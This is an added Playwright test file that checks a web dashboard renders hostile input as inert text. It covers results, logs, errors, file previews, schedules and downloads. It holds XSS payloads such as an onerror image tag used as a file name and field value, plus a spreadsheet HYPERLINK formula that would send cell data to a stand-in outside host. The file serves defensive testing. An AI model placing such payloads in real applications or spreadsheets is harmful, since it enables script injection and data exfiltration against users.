@@ -1,0 +1,151 @@
+"""What functions and strangers say is shown, and never run: files, results, logs, errors, names full of scripts.
+
+Each page must also leave the console without a word: markup that had got into a page, and was stopped by the policy
+only, is a complaint there.
+"""
+
+from collections.abc import Iterator
+from urllib.parse import quote, urlsplit
+
+import pytest
+from playwright.sync_api import BrowserContext, Locator, Page, expect
+
+from tests.cases.traps import MARKUP, TRAPS
+from tests.e2e.pages.test_one_request import badge, part
+from tests.runtime import Runtime
+from tests.waiting import wait_until
+
+
+@pytest.fixture(autouse=True)
+def unharmed(context: BrowserContext, page: Page, runtime: Runtime) -> Iterator[None]:
+    """No dialog opens, no script of theirs has run, nobody but the runtime is asked."""
+    dialogs: list[str] = []
+    strangers: list[str] = []
+    own = urlsplit(runtime.url).netloc
+
+    def look(url: str) -> None:
+        parts = urlsplit(url)
+        if parts.scheme not in ("data", "blob") and parts.netloc != own:
+            strangers.append(url)
+
+    def dismiss(dialog: object) -> None:
+        dialogs.append(str(dialog))
+        dialog.dismiss()  # type: ignore[attr-defined]
+
+    context.on("request", lambda request: look(request.url))
+    context.on("dialog", dismiss)
+    yield
+    assert dialogs == []
+    assert strangers == []
+    assert page.evaluate("[window.struck, ({}).struck, document.title.includes('<')]") == [None, None, False]
+
+
+@pytest.fixture(scope="module")
+def trapped(runtime: Runtime) -> str:
+    """A request that was uploaded a page and left every trap; failed ones stand beside it."""
+    upload = {"<b>part": ("<img src=x onerror=alert(1)>.svg", TRAPS["drawing.svg"].encode(), "image/svg+xml")}
+    answer = runtime.http.post("/api/functions/set_traps", files=upload)
+    assert answer.status_code == 202, answer.text
+    ended = runtime.ended(answer.json()["id"])
+    assert ended["status"] == "completed", ended
+    failed = runtime.call("set_traps", {"fail": True})
+    assert failed["status"] == "failed"
+    return str(ended["id"])
+
+
+def test_a_request_shows_them_as_words(page: Page, runtime: Runtime, trapped: str) -> None:
+    page.goto(f"{runtime.url}/requests/{trapped}")
+    expect(badge(page)).to_have_text("completed")
+    expect(part(page, "Result")).to_contain_text("<img src=x onerror=")
+    expect(part(page, "Logs")).to_contain_text("<script>")
+    assert page.locator("a[href^='javascript:' i]").count() == 0
+    assert page.locator("img[src='x'], [onerror], [onload]").count() == 0
+
+
+def test_previews_show_them_as_words_and_pictures(page: Page, runtime: Runtime, trapped: str) -> None:
+    page.goto(f"{runtime.url}/requests/{trapped}")
+    files = part(page, "Files")
+    expect(files.get_by_role("listitem")).to_have_count(len(TRAPS) + 1)
+    for row in files.get_by_role("listitem").all():
+        button = row.get_by_role("button")
+        if button.count():
+            show(button)
+            expect(row.locator("table, img, [role=alert]").first).to_be_visible()
+    table = files.get_by_role("listitem").filter(has=page.get_by_role("link", name="table.csv", exact=True))
+    show(table.get_by_role("button"))
+    expect(table.get_by_role("cell").first).to_have_text('=HYPERLINK("http://stranger.invalid/"&A1)')
+    expect(table.get_by_role("cell").nth(2)).to_contain_text("<img src=x onerror=")
+
+
+def show(button: Locator) -> None:
+    """Of one file; the first picture is shown already, and any other's preview closes it."""
+    if button.get_attribute("aria-expanded") == "false":
+        button.click()
+    expect(button).to_have_attribute("aria-expanded", "true")
+
+
+def test_an_error_shows_them_as_words_wherever_it_is_told(page: Page, runtime: Runtime, trapped: str) -> None:
+    failed = next(item for item in runtime.get("/api/requests?function=set_traps&status=failed")["items"])
+    page.goto(f"{runtime.url}/requests/{failed['id']}")
+    expect(page.get_by_role("region", name="Error")).to_contain_text("<img src=x onerror=")
+    for path, shown in {
+        "/requests?function=set_traps": "set_traps",
+        f"/requests?q={quote(MARKUP)}": "",
+        f"/requests?function={quote(MARKUP)}&status={quote(MARKUP)}": "",
+        f"/requests/{quote(MARKUP, safe='')}": "",
+        f"/functions/{quote(MARKUP, safe='')}": "",
+        "/functions": "set_traps",
+        "/functions/set_traps": "<img src=x onerror=alert(1)>",
+        "/overview": "Queues",
+        "/audit": "",
+    }.items():
+        page.goto(runtime.url + path)
+        page.wait_for_load_state("networkidle")
+        expect(page.locator("body")).to_contain_text(shown)
+        assert page.locator("img[src='x'], [onerror], [onload]").count() == 0, path
+
+
+def test_a_schedule_shows_them_as_words(page: Page, runtime: Runtime, trapped: str) -> None:
+    body = {"function": "echo", "expression": "rate(1 day)", "event": {"a": MARKUP}, "description": MARKUP}
+    made = runtime.http.post("/api/schedules", json=body | {"name": "trap", "enabled": False})
+    assert made.status_code == 201, made.text
+    try:
+        page.goto(f"{runtime.url}/schedules")
+        expect(page.get_by_role("link", name="trap", exact=True)).to_be_visible()
+        page.goto(f"{runtime.url}/schedules/trap")
+        expect(page.locator("body")).to_contain_text("<img src=x onerror=")
+    finally:
+        runtime.http.delete("/api/schedules/trap")
+
+
+def test_rqs_own_view_shows_them_as_words(page: Page, runtime: Runtime, trapped: str) -> None:
+    failed = next(item for item in runtime.get("/api/requests?function=set_traps&status=failed")["items"])
+    page.goto(f"{runtime.url}/rq/0/view/job/{failed['job_id']}")
+    expect(page.get_by_text("set_traps").first).to_be_visible()
+
+
+@pytest.mark.parametrize("name", TRAPS)
+def test_a_file_is_saved_and_opens_no_page(page: Page, runtime: Runtime, trapped: str, name: str) -> None:
+    """Also where it is opened by its own address, which an attacker would send around."""
+    page.goto(runtime.url)
+    with page.expect_download() as download:
+        page.evaluate("address => { location.href = address }", f"/api/requests/{trapped}/files/{quote(name)}")
+    assert download.value.suggested_filename
+    assert urlsplit(page.url).path in ("/", "/requests", "/overview", "/welcome")
+
+
+def test_a_frame_or_a_script_takes_no_file_for_its_own(page: Page, runtime: Runtime, trapped: str) -> None:
+    """A page of ours that somebody got to name a file as a script, an object or a frame."""
+    page.goto(runtime.url)
+    kinds = page.evaluate(
+        """async address => {
+            const answer = await fetch(address)
+            return [answer.headers.get('content-disposition'), answer.headers.get('x-content-type-options'),
+                    answer.headers.get('content-security-policy')]
+        }""",
+        f"/api/requests/{trapped}/files/page.html",
+    )
+    assert kinds[0].startswith("attachment")
+    assert kinds[1] == "nosniff"
+    assert "sandbox" in kinds[2]
+    wait_until(lambda: page.evaluate("document.readyState") == "complete")
